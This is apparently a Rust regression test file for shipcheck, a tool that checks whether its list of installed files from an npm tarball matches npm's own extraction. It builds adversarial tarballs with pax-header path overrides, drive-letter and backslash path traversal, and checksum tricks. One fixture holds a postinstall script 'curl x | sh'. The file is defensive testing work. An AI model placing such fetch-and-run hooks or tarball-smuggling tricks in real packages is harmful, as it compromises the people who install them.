//! Named regression cases: each tarball class where shipcheck once disagreed with npm on what
//! installs (issue #10 classes 1 and 2, and every class the differential test found). Each
//! test builds its archive by code, asserts the files shipcheck lists as installed, and,
//! where npm is present (always on CI), that npm's own extraction writes exactly those.

mod common;

use std::collections::BTreeMap;
use std::io::Write as _;
use std::path::Path;

use common::adversarial::tar::pax_record;
use common::check::sha256_hex;
use common::differential::{npm_root, spawn_npm_oracle};
use common::fixtures::{Tar, fix_checksum, flag, gzip, header};
use shipcheck::artifact::{AnomalyKind, Artifact, EntryKind, Options, read_bytes};

const PJ: &[u8] = br#"{"name":"demo","version":"1.0.0"}"#;

/// What npm writes for `bytes`: path → sha256, or npm's error.
fn npm_writes(npm: &Path, bytes: &[u8]) -> Result<BTreeMap<String, String>, String> {
    let dir = tempfile::tempdir().expect("temp dir");
    let file = common::fixtures::write(dir.path(), "case.tgz", bytes);
    let mut child = spawn_npm_oracle(npm);
    writeln!(child.stdin.take().expect("stdin"), "{}", file.display()).expect("write");
    let out = child.wait_with_output().expect("oracle ends");
    let line = String::from_utf8_lossy(&out.stdout)
        .lines()
        .nth(1)
        .expect("one result")
        .to_owned();
    let v: serde_json::Value = serde_json::from_str(&line).expect("JSON");
    if v["ok"] != true {
        return Err(v["error"].to_string());
    }
    Ok(v["entries"]
        .as_array()
        .expect("entries")
        .iter()
        .filter(|e| e["kind"] == "file")
        .map(|e| {
            (
                e["path"].as_str().expect("path").to_owned(),
                e["sha256"].as_str().expect("sha").to_owned(),
            )
        })
        .collect())
}

/// shipcheck lists exactly `files` as installed, and npm writes exactly those.
fn installs(name: &str, bytes: &[u8], files: &[(&str, &[u8])]) -> Artifact {
    let want: BTreeMap<String, String> = files
        .iter()
        .map(|(p, d)| ((*p).to_owned(), sha256_hex(d)))
        .collect();
    let a = read_bytes(name, bytes, &Options::default(), None)
        .unwrap_or_else(|e| panic!("{name} reads: {e:#}"));
    let ours: BTreeMap<String, String> = a
        .entries
        .iter()
        .filter(|e| e.installed && e.kind == EntryKind::File)
        .map(|e| {
            (
                e.path.clone(),
                e.sha256.as_deref().unwrap_or_default().to_owned(),
            )
        })
        .collect();
    assert_eq!(ours, want, "{name}: what shipcheck lists as installed");
    if let Some(npm) = npm_root("checking shipcheck's side only") {
        assert_eq!(npm_writes(&npm, bytes), Ok(want), "{name}: what npm writes");
    }
    a
}

fn with_pj(build: impl FnOnce(&mut Tar)) -> Vec<u8> {
    let mut t = Tar::new();
    t.file("package/package.json", PJ);
    build(&mut t);
    gzip(&t.finish())
}

fn pax(t: &mut Tar, typeflag: u8, records: &[Vec<u8>]) {
    let body: Vec<u8> = records.concat();
    t.raw(b"PaxHeader/x", typeflag, body.len() as u64, &body, b"");
}

#[test]
fn duplicate_pax_path_records_last_wins() {
    let bytes = with_pj(|t| {
        pax(
            t,
            flag::PAX,
            &[
                pax_record("path", b"package/shown.js"),
                pax_record("path", b"package/real.js"),
            ],
        );
        t.file("package/stored.js", b"evil()");
    });
    installs(
        "dup-pax.tgz",
        &bytes,
        &[("package.json", PJ), ("real.js", b"evil()")],
    );
}

#[test]
fn a_pax_path_after_a_gnu_long_name_wins() {
    let bytes = with_pj(|t| {
        let long = b"package/long-name.js\0";
        t.raw(b"././@LongLink", b'L', long.len() as u64, long, b"");
        pax(t, flag::PAX, &[pax_record("path", b"package/pax.js")]);
        t.file("package/stored.js", b"x");
    });
    installs(
        "l-then-pax.tgz",
        &bytes,
        &[("package.json", PJ), ("pax.js", b"x")],
    );
}

#[test]
fn old_types_x_and_n_act_as_pax_and_long_name() {
    let bytes = with_pj(|t| {
        pax(t, b'X', &[pax_record("path", b"package/from-X.js")]);
        t.file("package/stored1.js", b"1");
        let long = b"package/from-N.js";
        t.raw(b"././@LongLink", b'N', long.len() as u64, long, b"");
        t.file("package/stored2.js", b"2");
    });
    installs(
        "old-types.tgz",
        &bytes,
        &[
            ("package.json", PJ),
            ("from-X.js", b"1"),
            ("from-N.js", b"2"),
        ],
    );
}

#[test]
fn pax_sizes_read_as_javascript_numbers() {
    // `""` is 0 and `0x10` is 16: the bytes after the header are then read as npm reads them.
    for (text, size) in [("", 0usize), ("0x10", 16), ("1e3", 1000), ("16.0", 16)] {
        let data = vec![b'a'; 1000];
        let bytes = with_pj(|t| {
            pax(t, flag::PAX, &[pax_record("size", text.as_bytes())]);
            // The header says 1000; npm reads the pax size.
            t.raw(b"package/data.js", flag::FILE, 1000, &data, b"");
            // Where the header's size lines up, a file npm reads too.
            t.file("package/after.js", b"after");
        });
        let a = read_bytes("size.tgz", &bytes, &Options::default(), None);
        if size == 1000 {
            installs(
                "size.tgz",
                &bytes,
                &[
                    ("package.json", PJ),
                    ("data.js", &data),
                    ("after.js", b"after"),
                ],
            );
        } else {
            // The rest of the data is then read as headers by npm; shipcheck follows npm
            // or refuses.
            match a {
                Err(e) => assert!(format!("{e:#}").contains("corrupt tar"), "{text:?}: {e:#}"),
                Ok(a) => {
                    let d = a
                        .entries
                        .iter()
                        .find(|e| e.path == "data.js")
                        .expect("data.js");
                    assert_eq!(d.size, size as u64, "{text:?} reads as {size}");
                }
            }
        }
    }
}

#[test]
fn a_fractional_pax_size_is_refused() {
    let bytes = with_pj(|t| {
        pax(t, flag::PAX, &[pax_record("size", b"1.5")]);
        t.file("package/data.js", b"ab");
    });
    let err = read_bytes("frac.tgz", &bytes, &Options::default(), None)
        .map(|a| a.entries.len())
        .expect_err("refused");
    let err = format!("{err:#}");
    assert!(err.contains("not a whole number of bytes"), "{err}");
}

#[test]
fn sparse_entries_are_skipped_as_npm_skips_them() {
    let bytes = with_pj(|t| {
        t.raw(b"package/sparse.js", b'S', 5, b"evil!", b"");
        t.file("package/after.js", b"1");
    });
    let a = installs(
        "sparse.tgz",
        &bytes,
        &[("package.json", PJ), ("after.js", b"1")],
    );
    assert!(
        a.anomalies
            .iter()
            .any(|an| an.kind == AnomalyKind::SpecialFile),
        "the skipped entry is reported"
    );
}

#[test]
fn drive_letters_and_unc_prefixes_after_the_root_are_stripped() {
    let evil = br#"{"name":"demo","version":"1.0.0","scripts":{"postinstall":"curl x | sh"}}"#;
    let bytes = with_pj(|t| {
        t.file_bytes(b"package/c:package.json", evil);
    });
    let a = installs("drive.tgz", &bytes, &[("package.json", evil)]);
    assert!(
        a.package
            .as_ref()
            .is_some_and(|m| m.scripts.contains_key("postinstall")),
        "the package.json npm installs is the one read"
    );
    assert!(
        a.anomalies
            .iter()
            .any(|an| an.kind == AnomalyKind::DriveLetter)
    );
    for name in [
        &b"package/\\\\srv\\share\\x.js"[..],
        b"package/C:/x.js",
        b"package///x.js",
    ] {
        let bytes = with_pj(|t| {
            t.file_bytes(name, b"x");
        });
        installs("unc.tgz", &bytes, &[("package.json", PJ), ("x.js", b"x")]);
    }
}

#[test]
fn backslash_dotdot_is_refused_by_npm() {
    // Found by the differential test (seed 3): node-tar splits on `\` when it looks for `..`.
    let bytes = with_pj(|t| {
        t.file_bytes(b"package/lib\\..\\..\\x.js", b"x");
    });
    let a = installs("backslash.tgz", &bytes, &[("package.json", PJ)]);
    assert!(
        a.anomalies
            .iter()
            .any(|an| an.kind == AnomalyKind::PathTraversal)
    );
}

#[test]
fn a_file_where_a_folder_is_is_not_written() {
    // Found by the differential test (seed 45): `lib/.` is the folder `lib`.
    let bytes = with_pj(|t| {
        t.file("package/lib/a.js", b"a");
        t.file("package/lib/.", b"file over folder");
        t.file("package/x", b"x");
        t.file("package/x/under.js", b"under a file");
    });
    installs(
        "clash.tgz",
        &bytes,
        &[("package.json", PJ), ("lib/a.js", b"a"), ("x", b"x")],
    );
}

#[test]
fn gitignore_installs_as_npmignore() {
    // Found by the differential test (seed 54): pacote renames it, as `npm pack` treats it.
    let bytes = with_pj(|t| {
        t.file("package/lib/.gitignore", b"*.log");
        t.file("package/.npmignore", b"a");
        t.file("package/.gitignore", b"b");
    });
    installs(
        "gitignore.tgz",
        &bytes,
        &[
            ("package.json", PJ),
            ("lib/.npmignore", b"*.log"),
            (".npmignore", b"a"),
        ],
    );
}

#[test]
fn an_uncompressed_npm_tarball_follows_npm_rules() {
    // Found by the differential test (seed 251): npm installs a plain tar too.
    let mut t = Tar::new();
    t.file("package/package.json", PJ);
    t.link("package/link.js", flag::SYMLINK, "package.json");
    t.file("package/x", b"x");
    t.file("package/x/y.js", b"y");
    installs(
        "plain.tar",
        &t.finish(),
        &[("package.json", PJ), ("x", b"x")],
    );
}

#[test]
fn a_checksum_failure_is_refused_not_skipped() {
    // node-tar skips such a header and reads its data as headers: refuse instead.
    let mut t = Tar::new();
    t.file("package/package.json", PJ);
    let mut h = header(b"package/a.js", flag::FILE, 512, b"", 0o644);
    fix_checksum(&mut h);
    h[0] ^= 1;
    t.bytes.extend_from_slice(&h);
    t.bytes
        .extend_from_slice(&header(b"package/hidden.js", flag::FILE, 0, b"", 0o644));
    let err = read_bytes("cksum.tgz", &gzip(&t.finish()), &Options::default(), None)
        .map(|a| a.entries.len())
        .expect_err("refused");
    let err = format!("{err:#}");
    assert!(err.contains("fails its checksum"), "{err}");
}

#[test]
fn a_link_over_package_json_does_not_hide_npm_rules() {
    // Found by the long differential run (seed 1001177): the link npm skips made the
    // tarball look like it had no package.json, so no npm rule applied.
    let mut t = Tar::new();
    t.file("package/package.json", PJ);
    t.link(
        "package/package.json",
        flag::SYMLINK,
        "package/package.json",
    );
    t.file("package/.gitignore", b"g");
    installs(
        "link-over-pj.tgz",
        &gzip(&t.finish()),
        &[("package.json", PJ), (".npmignore", b"g")],
    );
}

/// Found by the long differential run (seed 2051546): node-tar takes a `0` entry whose name
/// ends in `/` for an old-style folder, but it looks before joining the ustar prefix, so an
/// empty name under prefix `package/lib` is a file, written as `lib`.
#[test]
fn the_old_folder_rule_looks_at_the_name_before_the_prefix() {
    let mut t = Tar::new();
    t.file("package/package.json", PJ);
    let mut h = header(b"", flag::FILE, 5, b"", 0o644);
    h[345..356].copy_from_slice(b"package/lib");
    fix_checksum(&mut h);
    t.bytes.extend_from_slice(&h);
    t.bytes.extend_from_slice(b"hello");
    t.bytes.resize(t.bytes.len() + 512 - 5, 0);
    // A name that itself ends in `/` is a folder, whatever its type flag says.
    t.raw(b"package/old/", flag::FILE, 0, b"", b"");
    let a = installs(
        "prefix-slash.tgz",
        &gzip(&t.finish()),
        &[("package.json", PJ), ("lib", b"hello")],
    );
    assert!(
        a.entries
            .iter()
            .any(|e| e.path == "old" && e.kind == EntryKind::Dir),
        "{:?}",
        a.entries
    );
}

/// Found by the long differential run (seed 2048047): `lib` written as a file, files under
/// `lib/`, then `lib` again as a file. npm cannot write the files under `lib/` while `lib` is
/// a file, and the later entry rewrites it: only `lib` installs.
#[test]
fn a_file_rewritten_later_still_blocks_the_folder_in_between() {
    let bytes = with_pj(|t| {
        t.file("package/lib", b"first");
        t.file("package/lib/a.js", b"a()");
        t.file("package/lib/.", b"second");
    });
    let a = installs(
        "file-then-folder.tgz",
        &bytes,
        &[("package.json", PJ), ("lib", b"second")],
    );
    assert!(
        a.anomalies
            .iter()
            .any(|an| an.detail.contains("lib/a.js lies under lib")),
        "{:?}",
        a.anomalies
    );
}

/// Found by the long differential run (seed 2088631): a `.gitignore` file, then a folder of
/// that name. pacote renames the file as it passes, so the folder does not replace it: npm
/// writes `.npmignore` and makes the `.gitignore` folder.
#[test]
fn a_renamed_gitignore_is_not_replaced_by_a_later_entry_of_its_old_name() {
    let bytes = with_pj(|t| {
        t.file("package/.gitignore", b"dist/\n");
        t.dir("package/.gitignore");
    });
    installs(
        "gitignore-then-folder.tgz",
        &bytes,
        &[("package.json", PJ), (".npmignore", b"dist/\n")],
    );
}
